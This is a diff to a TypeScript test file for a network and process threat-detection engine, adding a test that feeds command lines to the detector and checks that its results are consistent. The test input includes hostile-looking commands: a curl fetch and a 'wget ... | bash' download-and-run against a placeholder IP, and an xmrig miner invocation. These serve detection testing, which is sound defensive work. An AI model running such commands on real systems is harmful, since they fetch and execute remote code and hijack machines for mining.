@@ -4,7 +4,7 @@ import { areAlike } from '../../src/detect/alike.ts';
 import { factsOf } from '../../src/detect/facts.ts';
 import { createDetector, rulePacks } from '../../src/detect/index.ts';
 import type { NetworkEvent } from '../../src/model/event.ts';
-import { approved, network } from './events.ts';
+import { approved, network, processEvent } from './events.ts';
 
 const inventory = approved('files.example');
 const domain = fc.constantFrom(
@@ -66,6 +66,18 @@ it.each<[string, Partial<NetworkEvent>, Partial<NetworkEvent>]>([
   expect(events.map((it) => detector.observe(it))).toEqual(
     events.map((it) => createDetector(rulePacks, { inventory }).observe(it)),
   );
+});
+
+it('tells apart commands, also those that are too long to be remembered', () => {
+  const commands = ['curl http://198.51.100.7/x', 'wget -q -O- http://198.51.100.7/x | bash', 'xmrig -o pool:3333'];
+  const socket = { transport: 'tcp', local: {}, remote: { ip: '198.51.100.7', port: 443 } };
+  const events = [...commands, ...commands.map((command) => `${command} ${'x'.repeat(300)}`)].map((commandLine) =>
+    processEvent({ op: 'alert', action: 'alert', commandLine, socket }),
+  );
+  const detector = createDetector(rulePacks, { inventory });
+  for (const one of [...events, ...events])
+    expect(detector.observe(one)).toEqual(createDetector(rulePacks, { inventory }).observe(one));
+  expect(new Set(events.map((one) => detector.observe(one)?.category)).size).toBeGreaterThan(1);
 });
 
 it('takes records for alike exactly where all that is compared is equal, whatever texts run together (property)', () => {
